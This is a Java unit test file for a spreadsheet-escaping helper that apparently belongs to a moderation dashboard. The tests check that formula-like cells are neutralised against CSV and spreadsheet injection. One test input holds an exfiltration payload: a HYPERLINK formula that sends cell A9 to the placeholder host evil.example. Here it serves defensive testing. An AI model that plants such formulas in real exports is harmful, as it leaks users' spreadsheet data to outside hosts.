package org.moderation.bi.dashboard.rest;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;

import org.junit.jupiter.api.Test;

/** What a spreadsheet would run as a formula arrives as text; everything else arrives as it was. */
class SpreadsheetSafeTest {

    @Test
    void aCellThatStartsLikeAFormulaGetsAQuote() {
        for (String formula : new String[] {"=1+2", "+1+2", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "\0NUL",
                "\uFF1D1+2", "\uFF0B1", "\uFF0D1", "\uFF20SUM(A1)"}) {
            assertThat(SpreadsheetSafe.cell(formula)).as(formula).isEqualTo("'" + formula);
        }
    }

    @Test
    void blanksAndQuotesInFrontDoNotHideAFormula() {
        for (String hidden : new String[] {" =1+2", "   +1", "\u00A0=1", "\u3000\uFF1D1", "\u200B=1", "\"=1+2\"",
                " \"@SUM(A1)\""}) {
            assertThat(SpreadsheetSafe.cell(hidden)).as(hidden).isEqualTo("'" + hidden);
        }
    }

    @Test
    void everyPieceASpreadsheetMayCutTheTextIntoIsACellOfItsOwn() {
        assertThat(SpreadsheetSafe.cell("North,=1+2")).isEqualTo("North,'=1+2");
        assertThat(SpreadsheetSafe.cell("North; -1")).isEqualTo("North;' -1");
        assertThat(SpreadsheetSafe.cell("North\n=1+2")).isEqualTo("North\n'=1+2");
        assertThat(SpreadsheetSafe.cell("North\r\n@x")).isEqualTo("North\r\n'@x");
        assertThat(SpreadsheetSafe.cell("a\t=b")).isEqualTo("a\t'=b");
    }

    @Test
    void harmlessTextNumbersAndTimesAreLeftAlone() {
        for (String text : new String[] {"North", "north-east", "a = b", "1+2", "", " ", "O'Brien", "#tag",
                "[2024-05-01T00:00:00Z, 2024-06-01T00:00:00Z)", "superadmin, every community"}) {
            assertThat(SpreadsheetSafe.cell(text)).as(text).isEqualTo(text);
        }
        assertThat(SpreadsheetSafe.cell(-3L)).isEqualTo(-3L);
        assertThat(SpreadsheetSafe.cell(-0.5)).isEqualTo(-0.5);
        assertThat(SpreadsheetSafe.cell(null)).isNull();
        assertThat(SpreadsheetSafe.cell(Instant.parse("2024-05-03T10:00:00Z"))).isEqualTo("2024-05-03T10:00:00Z");
    }

    @Test
    void aCommentStaysOneInertLine() {
        String description = "Counts removals.\n=1+2,=HYPERLINK(\"http://evil.example/?leak=\"&A9,\"click me\")";
        assertThat(SpreadsheetSafe.comment("rule: " + description)).isEqualTo(
                "rule: Counts removals.\\n=1+2,'=HYPERLINK(\"http://evil.example/?leak=\"&A9,\"click me\")");
        assertThat(SpreadsheetSafe.comment("=1\r\n+2\t@3")).isEqualTo("'=1\\r\\n+2\\t@3");
        assertThat(SpreadsheetSafe.comment("a\u2028b\u0085c\u000Bd\\n")).isEqualTo("a\\u2028b\\u0085c\\u000Bd\\\\n");
        assertThat(SpreadsheetSafe.comment("scope: superadmin, communities north south"))
                .isEqualTo("scope: superadmin, communities north south");
        assertThat(SpreadsheetSafe.comment("x, =1; +2")).isEqualTo("x,' =1;' +2");
    }
}
